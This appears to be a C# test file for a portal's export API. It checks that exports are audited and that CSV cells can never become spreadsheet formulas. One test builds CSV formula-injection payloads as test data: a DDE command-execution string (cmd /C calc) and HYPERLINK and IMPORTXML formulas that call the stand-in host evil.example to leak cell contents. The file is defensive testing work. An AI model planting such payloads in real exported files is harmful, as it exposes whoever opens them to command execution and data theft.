using System.Globalization;
using System.Net;
using System.Xml.Linq;
using CsvHelper;
using Microsoft.EntityFrameworkCore;
using Portal.Data.Access;
using Portal.Data.Audit;
using Portal.Tests.Support;

namespace Portal.Tests.Hosting.Api;

/// <summary>What leaves the portal as a file.</summary>
public sealed class ListExportTests
{
    [Theory]
    [InlineData("agents", "ndjson", "status=confirmed")]
    [InlineData("identities", "csv", "q=support")]
    [InlineData("changes", "ndjson", "kind=permissionGained")]
    [InlineData("audit", "csv", "action=token.")]
    [InlineData("audit", "proofs", "action=token.")]
    public async Task Whoever_takes_a_list_away_is_recorded_with_what_they_asked_for(string list, string format, string filter)
    {
        await using var portal = await PortalServer.StartAsync(isDemo: false);
        using var client = await portal.CreateClientAsync(TokenScope.Admin);

        using var refused = await client.GetAsync(new Uri($"/api/v1/{list}/export?format=pdf", UriKind.Relative), Now);
        await client.GetStringAsync(new Uri($"/api/v1/{list}/export?format={format}&{filter}", UriKind.Relative), Now);

        Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.StatusCode);
        await using var db = await portal.OpenDatabaseAsync();
        var entry = await db.Set<AuditEntry>().SingleAsync(e => e.Action == "list.export", Now);
        Assert.Equal(("list", list, CallerKind.Token), (entry.SubjectKind, entry.SubjectId, entry.ActorKind));
        Assert.Equal($$"""{"format":"{{format}}","filter":"?{{filter}}"}""", entry.After);
    }

    [Fact]
    public async Task No_cell_of_a_table_is_a_formula_whatever_stands_in_it()
    {
        await using var portal = await PortalServer.StartAsync(isDemo: false);
        using var client = await portal.CreateClientAsync(TokenScope.Admin);
        string[] starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "==", "=\"", ";=", "'=", "\"="];
        string[] calls = ["cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example\")", "1+1", "SUM(1,2)", "IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")"];
        var payloads = starts.SelectMany(s => calls.Select(c => s + c)).ToList();
        await using (var db = await portal.OpenDatabaseAsync())
        {
            db.AddRange(payloads.Select(p =>
            {
                var agent = An.Agent(p);
                agent.Purpose = p;
                return agent;
            }));
            await db.SaveChangesAsync(Now);
        }

        var exported = await client.GetStringAsync(new Uri("/api/v1/agents/export?format=csv", UriKind.Relative), Now);
        using var text = new StringReader(exported);
        using var csv = new CsvParser(text, CultureInfo.InvariantCulture);

        var rows = new List<string[]>();
        while (await csv.ReadAsync())
        {
            rows.Add(csv.Record!);
        }
        Assert.Equal(payloads.Count + 1, rows.Count);
        Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell is ['=' or '+' or '-' or '@' or '\t' or '\r' or '\n', ..], cell));
        Assert.All(payloads, payload => Assert.Contains(rows, row => row.Any(cell => cell.Contains(payload.Trim(), StringComparison.Ordinal))));
        if (TestScale.IsFull)
        {
            // One that is a formula shows that the spreadsheet would make one.
            Assert.Equal(1, await FormulasAsync("=1+1\n"));
            Assert.Equal(0, await FormulasAsync(exported));
        }
    }

    /// <summary>How many formulas a spreadsheet finds in a table when it opens it with all that it may evaluate.</summary>
    private static async Task<int> FormulasAsync(string csv)
    {
        const string Everything = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true";
        var folder = Directory.CreateTempSubdirectory("governance-spreadsheet-").FullName;
        try
        {
            await File.WriteAllTextAsync(Path.Combine(folder, "table.csv"), csv, Now);
            await MachineProgram.RunAsync(
                await MachinePart.LibreOffice.LocateAsync(), $"-env:UserInstallation=file://{folder}/profile", "--headless", $"--infilter={Everything}", "--convert-to", "fods", "--outdir", folder, Path.Combine(folder, "table.csv"));
            return XDocument.Load(Path.Combine(folder, "table.fods")).Descendants().Attributes().Count(attribute => attribute.Name.LocalName == "formula");
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    private static CancellationToken Now => TestContext.Current.CancellationToken;
}
